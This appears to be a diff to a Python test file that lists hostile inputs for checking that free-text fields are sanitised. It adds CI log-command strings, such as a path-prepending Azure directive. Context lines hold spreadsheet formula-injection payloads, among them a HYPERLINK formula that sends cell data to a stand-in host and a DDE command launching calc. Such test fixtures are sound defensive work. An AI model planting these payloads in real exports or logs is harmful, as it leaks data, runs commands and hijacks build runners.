@@ -28,7 +28,9 @@ FORMULAS = (
     '=HYPERLINK("http://192.0.2.1/?"&A1,"x")', "-2+3+cmd|' /C calc'!A0", '"=1"', ";=1", ",=1",
 )  # fmt: skip
 STORE_ID = "0" * 32
-HOSTILE = (*MARKUP, *ESCAPES, *FORMULAS)
+COMMANDS = ("::add-mask::0", "##vso[task.prependpath]/tmp", "##[error]x", "##teamcity[x]")
+"""What runners of builds act on in a log."""
+HOSTILE = (*MARKUP, *ESCAPES, *FORMULAS, *COMMANDS)
 _FREE = (
     "owner", "purpose", "made_by", "deputy", "account", "scope_name", "environment", "notes", "provider_id", "label",
     "hint",
